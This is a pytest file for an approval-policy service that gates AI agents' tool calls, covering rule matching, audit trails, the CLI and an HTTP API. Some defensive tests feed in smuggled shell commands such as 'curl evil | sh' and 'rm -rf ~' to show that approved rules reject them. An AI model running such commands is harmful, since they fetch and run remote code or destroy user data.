"""Policy rules: matching, the service deciding on create, the `rules` CLI, /api/v1/rules.

Service tests run on both backends (the `service` fixture); the remote tests drive a real
server through the Client and the CLI with `--server`.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest
import yaml
from conftest import CliRunner, env_for

from approvalctl import counters, policy
from approvalctl.cli import app
from approvalctl.config import Settings
from approvalctl.errors import ApprovalConflict, Forbidden, InvalidInput, NotFound
from approvalctl.models import Principal
from approvalctl.service import ApprovalService

OP = Principal("olivia", "operator")
BOT = Principal("deploy-bot", "user")


def rule(name: str, action: str = "allow", tools=("Bash",), **extra) -> dict:
    return {"name": name, "tools": list(tools), "action": action, **extra}


# ---------------------------------------------------------------- pure matching
def check(raw: dict) -> dict:
    return policy.check_rule(raw)


@pytest.mark.parametrize("raw,why", [
    (rule("a", tools=["x["]), r"unbalanced '\['"),
    (rule("a", tools=[]), "can never match"),
    (rule("a", tools=[""]), "must not be empty"),
    (rule("a", match={"a..b": "x"}), "unknown path syntax"),
    (rule("a", match={"cmd": "[!"}), "unbalanced"),
    (rule("a", match={"cmd": 3}), "must be a string"),
    (rule("a", action="maybe"), "action must be one of"),
    (rule("a b"), "invalid rule name"),
    (rule("test"), "reserved"),
    (rule("a", risk="huge"), "risk"),
    (rule("a", ttl=0), "ttl"),
    ({**rule("a"), "tool": ["Bash"]}, "unknown field 'tool'"),
])
def test_a_rule_that_cannot_work_is_refused_with_the_reason(raw, why):
    with pytest.raises(policy.RuleError, match=why):
        check(raw)


def test_balanced_brackets_and_escapes_are_accepted():
    assert check(rule("a", tools=["[[]x]", "mcp__*", "[!a]b", "[]]"]))["tools"][0] == "[[]x]"


def test_globs_match_strings_and_other_values_by_their_json_text():
    r = check(rule("a", match={"command": "git push*--force*", "opts.dry": "true",
                               "argv.0": "ls", "paths": policy.escape('["a","b"]')}))
    args = {"command": "git push origin --force", "opts": {"dry": True},
            "argv": ["ls", "-l"], "paths": ["a", "b"]}
    assert policy.matches(r, "Bash", args)
    # Documented limit: a glob sees text, so the string "true" matches as true does.
    assert policy.matches(r, "Bash", {**args, "opts": {"dry": "true"}})
    assert not policy.matches(r, "Bash", {**args, "opts": {"dry": False}})
    assert not policy.matches(r, "Bash", {**args, "paths": ["a"]})
    assert not policy.matches(r, "Bash", {k: v for k, v in args.items() if k != "argv"})
    assert not policy.matches(r, "bash", args)  # tool globs are case-sensitive


def test_first_match_wins_and_none_means_the_default():
    rules = [check(rule("deny-force", "deny", match={"command": "*--force*"})),
             check(rule("bash", "allow"))]
    assert policy.evaluate(rules, "Bash", {"command": "git push --force"})["name"] \
        == "deny-force"
    assert policy.evaluate(rules, "Bash", {"command": "ls"})["name"] == "bash"
    assert policy.evaluate(rules, "Read", {}) is None


def test_an_exact_rule_matches_only_that_call():
    args = {"command": "make [all] *", "env": {"A": 1}, "n": 2}
    r = check(policy.exact_rule("always-x", "Ba*sh", args))
    assert policy.matches(r, "Ba*sh", args)
    assert not policy.matches(r, "Bash", args)  # the tool name is literal
    assert not policy.matches(r, "Ba*sh", {**args, "command": "make [all] * ; rm -rf ~"})
    assert not policy.matches(r, "Ba*sh", {**args, "command": "make a *"})
    assert not policy.matches(r, "Ba*sh", {**args, "extra": True})
    assert not policy.matches(r, "Ba*sh", {**args, "env": {"A": 1, "B": 2}})
    assert not policy.matches(r, "Ba*sh", {"command": "make [all] *", "env": {"A": 1}})


def test_an_exact_rule_matches_each_value_with_its_type():
    """`"false"` is truthy to most tools: a string never passes for a boolean, a number or
    a list an operator approved, nor the other way round."""
    args = {"recursive": False, "paths": ["/tmp/a"], "n": 5, "mode": "5"}
    r = check(policy.exact_rule("always-x", "mcp__fs__delete", args))
    assert policy.matches(r, "mcp__fs__delete", dict(args))
    for forged in ({"recursive": "false"}, {"paths": '["/tmp/a"]'}, {"n": "5"}, {"mode": 5},
                   {"n": 5.5}):
        assert not policy.matches(r, "mcp__fs__delete", {**args, **forged}), forged


# ---------------------------------------------------------------- the service
def test_allow_and_deny_are_decisions_by_the_rule_audited_and_counted(service, store, admin):
    service.add_rule(admin, rule("reads", "allow", tools=["Read", "Glob"], note="read-only"))
    service.add_rule(admin, rule("no-force", "deny", match={"command": "*--force*"}))
    ok = service.create(BOT, "Read", {"file_path": "/etc/hosts"})
    no = service.create(BOT, "Bash", {"command": "git push --force"})
    ask = service.create(BOT, "Bash", {"command": "ls"})
    assert (ok.status, ok.decided_by, ok.decision_note) == ("approved", "policy:reads",
                                                            "read-only")
    assert (no.status, no.decided_by) == ("rejected", "policy:no-force")
    assert ask.status == "pending"
    assert service.get(OP, ok.id).status == "approved"
    actions = [(r["action"], r["actor"]) for r in store.audit_rows(request_id=ok.id)]
    assert actions == [("create", "deploy-bot"), ("approve", "policy:reads")]
    assert service.audit_verify(admin).ok
    rows = {(n, lab): v for n, lab, v in store.counters()}
    assert rows[(counters.POLICY_DECISIONS, "action=allow,rule=reads")] == 1
    assert rows[(counters.POLICY_DECISIONS, "action=deny,rule=no-force")] == 1
    assert rows[(counters.REQUESTS_TOTAL, "status=approved")] == 1
    # Policy decisions are not human response times.
    assert (counters.RESPONSE_TIME + "_count", "") not in rows
    assert service.stats(OP)["response_time_seconds"]["p50"] is None


def _trail(store, request_id: str) -> list[tuple]:
    return [(r["action"], r["actor"], r["from_status"], r["to_status"])
            for r in store.audit_rows(request_id=request_id)]


def _counted(store) -> dict:
    return {(n, lab): v for n, lab, v in store.counters() if not n.startswith("rbac")}


def test_an_allowed_call_consumed_as_filed_leaves_the_record_of_create_then_consume(
        service, store, admin, db_url, new_db):
    """create(consume=digest) — one transaction — audits and counts an allowed call exactly
    as create followed by consume does (the MCP gateway's and the local hook's path)."""
    from approvalctl.digest import digest
    from approvalctl.store import open_store

    # the same calls on a second database of the same backend, the two-step way
    other = open_store(new_db("postgres" if db_url.startswith("postgres") else "sqlite"))
    try:
        two_step = ApprovalService(other, service.settings)
        for svc in (service, two_step):
            svc.add_rule(admin, rule("reads", "allow", tools=["Read"], note="read-only"))
        args = {"file_path": "/etc/hosts"}
        call = digest("Read", args)
        one = service.create(BOT, "Read", args, consume=call)
        assert (one.status, one.decided_by, one.decision_note) == (
            "approved", "policy:reads", "read-only")
        assert one.consumed_at == one.created_at and one.digest == call
        assert service.get(OP, one.id).consumed_at == one.consumed_at
        filed = two_step.create(BOT, "Read", args)
        used = two_step.consume(BOT, filed.id, call)
        assert _trail(store, one.id) == _trail(other, used.id) == [
            ("create", "deploy-bot", None, "pending"),
            ("approve", "policy:reads", "pending", "approved"),
            ("consume", "deploy-bot", "approved", "approved")]
        assert [r["detail"] for r in store.audit_rows(request_id=one.id)][2] == \
            json.dumps({"digest": call})
        assert service.audit_verify(admin).ok and two_step.audit_verify(admin).ok
        store.flush_counters()
        other.flush_counters()
        assert _counted(store) == _counted(other)
        assert _counted(store)[(counters.CONSUMED, "")] == 1
        # used once: a second consume of the same approval is refused
        with pytest.raises(ApprovalConflict):
            service.consume(BOT, one.id, call)
    finally:
        other.close()


def test_consume_on_create_is_bound_to_the_digest_and_only_for_an_allow(service, store, admin):
    from approvalctl.digest import digest
    from approvalctl.errors import DigestMismatch

    service.add_rule(admin, rule("reads", "allow", tools=["Read"]))
    service.add_rule(admin, rule("no-rm", "deny", tools=["Rm"]))
    before = len(store.audit_rows())
    with pytest.raises(DigestMismatch):  # the digest of other arguments: nothing is filed
        service.create(BOT, "Read", {"file_path": "/etc/hosts"},
                       consume=digest("Read", {"file_path": "/etc/shadow"}))
    with pytest.raises(InvalidInput):
        service.create(BOT, "Read", {}, consume="sha256:nothex")
    with pytest.raises(InvalidInput):  # a replay would hand out a used approval again
        service.create(BOT, "Read", {}, consume=digest("Read", {}), idempotency_key="k1")
    assert len(store.audit_rows()) == before
    ask = service.create(BOT, "Bash", {"command": "ls"}, consume=digest("Bash",
                                                                        {"command": "ls"}))
    assert (ask.status, ask.consumed_at) == ("pending", None)
    assert [a for a, *_ in _trail(store, ask.id)] == ["create"]
    no = service.create(BOT, "Rm", {}, consume=digest("Rm", {}))
    assert (no.status, no.consumed_at) == ("rejected", None)
    assert [a for a, *_ in _trail(store, no.id)] == ["create", "reject"]
    assert service.audit_verify(admin).ok


def test_rules_are_cached_per_connection_yet_a_change_elsewhere_is_seen_at_once(
        db_path, admin):
    """SQLite keeps the parsed rules while nothing else committed (PRAGMA data_version),
    so a create does not read them again; a rule changed by another connection, another
    process (the CLI) or this one applies to the very next create."""
    from approvalctl.store import open_store

    mine, other = open_store(str(db_path)), open_store(str(db_path))
    try:
        svc, elsewhere = ApprovalService(mine), ApprovalService(other)
        svc.add_rule(admin, rule("reads", "allow", tools=["Read"]))
        assert svc.create(BOT, "Read", {}).status == "approved"
        seen: list[str] = []
        mine._conn().set_trace_callback(seen.append)
        assert svc.create(BOT, "Read", {}).status == "approved"
        assert not [s for s in seen if "policy_rules" in s]  # served from the cache
        elsewhere.add_rule(admin, rule("no-reads", "deny", tools=["Read"]), before="reads")
        assert svc.create(BOT, "Read", {}).status == "rejected"  # another connection
        assert [s for s in seen if "policy_rules" in s]
        done = subprocess.run([sys.executable, "-m", "approvalctl", "rules", "rm",
                               "no-reads"], env=env_for(db_path), capture_output=True,
                              text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        assert svc.create(BOT, "Read", {}).status == "approved"  # another process
        svc.remove_rule(admin, "reads")
        assert svc.create(BOT, "Read", {}).status == "pending"  # this connection
        with mine.unit_of_work() as uow:  # read once per unit, as the server's writes run
            seen.clear()
            in_unit = ApprovalService(uow.store)
            assert [in_unit.create(BOT, "Read", {}).status for _ in range(3)] == \
                ["pending"] * 3
            assert len([s for s in seen if "FROM policy_rules" in s]) == 1
    finally:
        mine.close()
        other.close()


def test_rule_changes_are_audit_rows_in_the_same_chain(service, admin):
    service.add_rule(admin, rule("a"))
    service.remove_rule(admin, "a")
    service.import_rules(admin, [rule("b"), rule("c")])
    rows = service.audit_list(admin)
    assert [r["action"] for r in rows] == ["rule_add", "rule_remove", "rules_import"]
    assert rows[0]["request_id"] is None and rows[0]["detail"]["rule"]["name"] == "a"
    assert service.audit_verify(admin).ok


def test_rule_risk_and_ttl_shape_the_request(service, admin):
    service.add_rule(admin, rule("prod", "ask", risk="high", ttl="5m"))
    req = service.create(BOT, "Bash", {"command": "deploy"}, risk="low", ttl_seconds=3600)
    assert req.risk == "high"
    from approvalctl.models import from_iso

    assert (from_iso(req.expires_at) - from_iso(req.created_at)).total_seconds() == 300


def test_default_deny_is_configurable(store):
    service = ApprovalService(store, Settings(policy_default="deny"))
    req = service.create(BOT, "Bash", {"command": "ls"})
    assert (req.status, req.decided_by) == ("rejected", "policy:default")
    assert service.test_rule(OP, "Bash", {}) == {"tool_name": "Bash", "action": "deny",
                                                 "rule": None}


def test_order_before_conflicts_and_not_found(service, admin):
    service.add_rule(admin, rule("b"))
    service.add_rule(admin, rule("a", "deny"), before="b")
    assert [r["name"] for r in service.list_rules(admin)] == ["a", "b"]
    with pytest.raises(ApprovalConflict):
        service.add_rule(admin, rule("a"))
    with pytest.raises(NotFound):
        service.add_rule(admin, rule("c"), before="zzz")
    with pytest.raises(NotFound):
        service.remove_rule(admin, "zzz")


def test_an_import_with_errors_imports_nothing_and_lists_every_error(service, admin):
    service.add_rule(admin, rule("keep"))
    with pytest.raises(InvalidInput) as exc:
        service.import_rules(admin, [rule("x"), rule("y", tools=["a["]), rule("z",
                                                                             action="no")],
                             replace=True)
    head, *errors = exc.value.detail.split(": ", 1)[1].split("; ")  # one line, every error
    assert "2 error(s)" in exc.value.detail and "\n" not in exc.value.detail
    assert "rule 2" in head and "rule 3" in errors[0]
    assert [r["name"] for r in service.list_rules(admin)] == ["keep"]
    service.import_rules(admin, [rule("x")], replace=True)
    assert [r["name"] for r in service.list_rules(admin)] == ["x"]


def test_only_operators_and_admins_manage_rules(service):
    for who in (BOT, Principal("vera", "viewer")):
        with pytest.raises(Forbidden):
            service.list_rules(who)
        with pytest.raises(Forbidden):
            service.add_rule(who, rule("a"))
    service.add_rule(OP, rule("a"))


def test_approve_always_allows_exactly_that_call_from_then_on(service):
    args = {"command": "make release", "cwd": "/srv/app"}
    first = service.create(BOT, "Bash", args, reason="release")
    done, added = service.approve_always(OP, first.id)
    assert done.status == "approved" and added["name"] == f"always-{first.id}"
    again = service.create(BOT, "Bash", dict(args))
    assert (again.status, again.decided_by) == ("approved", f"policy:always-{first.id}")
    for other in ({**args, "command": "make release; curl evil | sh"},
                  {**args, "extra": "x"}, {"command": "make release"}):
        assert service.create(BOT, "Bash", other).status == "pending"
    assert service.create(BOT, "bash", args).status == "pending"


# ---------------------------------------------------------------- the CLI, locally
@pytest.fixture
def cli(db_path, monkeypatch):
    monkeypatch.setenv("APPROVALCTL_DB", str(db_path))
    runner = CliRunner()
    return lambda *a, **kw: runner.invoke(app, list(a), **kw)


def test_cli_add_list_test_rm(cli):
    r = cli("rules", "add", "no-force", "--action", "deny", "--tool", "Bash", "--match",
            "command=git push*--force*", "--note", "never")
    assert r.exit_code == 0, r.output
    assert cli("rules", "add", "reads", "--action", "allow", "--tool", "Read",
               "--before", "no-force").exit_code == 0
    listed = json.loads(cli("rules", "list", "--json").stdout)
    assert [x["name"] for x in listed] == ["reads", "no-force"]
    r = cli("rules", "test", "Bash", "--args", '{"command": "git push --force"}')
    assert r.stdout.strip() == "deny\trule no-force"
    r = cli("rules", "test", "Write", "--args", "{}")
    assert r.stdout.strip() == "ask\tno rule matched (the default)"
    assert cli("rules", "rm", "reads").exit_code == 0
    assert cli("rules", "rm", "reads").exit_code == 3


@pytest.mark.parametrize("args,why", [
    (["--tool", "x["], "unbalanced"),
    (["--tool", "Bash", "--match", "command"], "PATH=GLOB"),
    (["--tool", "Bash", "--match", "a..b=x"], "unknown path syntax"),
    (["--tool", "Bash", "--ttl", "soon"], "--ttl"),
])
def test_cli_refuses_a_rule_that_cannot_match_with_one_line(cli, args, why):
    r = cli("rules", "add", "bad", "--action", "allow", *args)
    assert r.exit_code == 2 and why in r.stderr and len(r.stderr.strip().splitlines()) == 1


def test_cli_export_import_round_trip_and_all_or_nothing(cli, tmp_path):
    cli("rules", "add", "a", "--action", "allow", "--tool", "Read", "--ttl", "10m")
    cli("rules", "add", "b", "--action", "deny", "--tool", "Bash", "--match", "command=rm *")
    exported = cli("rules", "export").stdout
    data = yaml.safe_load(exported)
    assert [r["name"] for r in data] == ["a", "b"] and data[0]["ttl"] == 600
    assert list(data[1]) == ["name", "tools", "match", "action"]  # documented field order
    (tmp_path / "rules.yaml").write_text(exported)
    bad = tmp_path / "bad.yaml"
    bad.write_text(yaml.safe_dump([{"name": "c", "tools": [], "action": "allow"},
                                   {"name": "d", "tools": ["x"], "action": "nope"}]))
    r = cli("rules", "import", str(bad), "--replace")
    assert r.exit_code == 2 and "rule 1" in r.stderr and "rule 2" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and "\\n" not in r.stderr  # one line
    assert cli("rules", "export").stdout == exported  # nothing imported
    r = cli("rules", "import", str(tmp_path / "rules.yaml"))
    assert r.exit_code == 4  # the names exist: all or nothing
    assert cli("rules", "import", str(tmp_path / "rules.yaml"), "--replace").exit_code == 0
    assert cli("rules", "export").stdout == exported
    (tmp_path / "junk.yaml").write_text("- [unclosed")
    r = cli("rules", "import", str(tmp_path / "junk.yaml"))
    assert r.exit_code == 2 and "not valid YAML" in r.stderr
    # a reviewer of the file in git reads `deny`; the last key must not win silently
    (tmp_path / "twice.yaml").write_text("- name: e\n  tools: [Bash]\n  action: deny\n"
                                         "  action: allow\n")
    r = cli("rules", "import", str(tmp_path / "twice.yaml"))
    assert r.exit_code == 2 and "duplicate key 'action'" in r.stderr and "line 4" in r.stderr
    assert cli("rules", "export").stdout == exported


def test_export_writes_agent_text_as_ascii_escapes(cli):
    """An --always rule captures an agent's argument: bidi and invisible characters in it
    must not reach the terminal raw through `rules export`; the YAML still round-trips."""
    value = "safe\u202e\u200bcmd"
    r = cli("rules", "add", "bidi", "--action", "allow", "--tool", "Bash", "--match",
            f"command={value}")
    assert r.exit_code == 0, r.output
    out = cli("rules", "export").stdout
    assert out.isascii() and "\\u202E" in out.upper().replace("\\U", "\\u")
    assert yaml.safe_load(out)[0]["match"]["command"] == value


# ---------------------------------------------------------------- over HTTP, remotely
def test_http_rules_are_for_operators_and_admins(live, http):
    assert http.get("/api/v1/rules", headers=live.headers("user")).status_code == 403
    assert http.get("/api/v1/rules", headers=live.headers("viewer")).status_code == 403
    r = http.post("/api/v1/rules", json=rule("a", tools=["x["]),
                  headers=live.headers("operator"))
    assert r.status_code == 400 and "unbalanced" in r.json()["detail"]
    r = http.post("/api/v1/rules", json=rule("a"), headers=live.headers("operator"))
    assert r.status_code == 201 and r.json()["name"] == "a"
    r = http.post("/api/v1/rules/test", json={"tool_name": "Bash", "arguments": {}},
                  headers=live.headers("admin"))
    assert r.json() == {"tool_name": "Bash", "action": "allow", "rule": "a"}
    assert http.delete("/api/v1/rules/a", headers=live.headers("operator")).status_code == 200
    assert http.delete("/api/v1/rules/a", headers=live.headers("operator")).status_code == 404


def test_remote_cli_works_as_the_local_one(live, monkeypatch, tmp_path):
    monkeypatch.setenv("APPROVALCTL_SERVER", live.url)
    monkeypatch.setenv("APPROVALCTL_API_KEY", live.keys["operator"])
    runner = CliRunner()

    def cli(*a):
        return runner.invoke(app, list(a))

    assert cli("rules", "add", "reads", "--action", "allow", "--tool", "Read").exit_code == 0
    assert cli("rules", "test", "Read").stdout.strip() == "allow\trule reads"
    agent = live.client("user")
    assert agent.create("Read", {"path": "x"}).decided_by == "policy:reads"
    req = agent.create("Bash", {"command": "make"})
    r = cli("approve", req.id, "--always")
    assert r.exit_code == 0, r.output
    assert agent.create("Bash", {"command": "make"}).decided_by == f"policy:always-{req.id}"
    (tmp_path / "r.yaml").write_text(cli("rules", "export").stdout)
    assert cli("rules", "import", str(tmp_path / "r.yaml"), "--replace").exit_code == 0
    assert [x["name"] for x in json.loads(cli("rules", "list", "--json").stdout)] == \
        ["reads", f"always-{req.id}"]
    metrics = live.client("user")._http.get("/metrics").text
    assert re.search(r'approval_policy_decisions_total\{action="allow",database="[^"]+",'
                     r'rule="reads"\} 1\.0', metrics), metrics
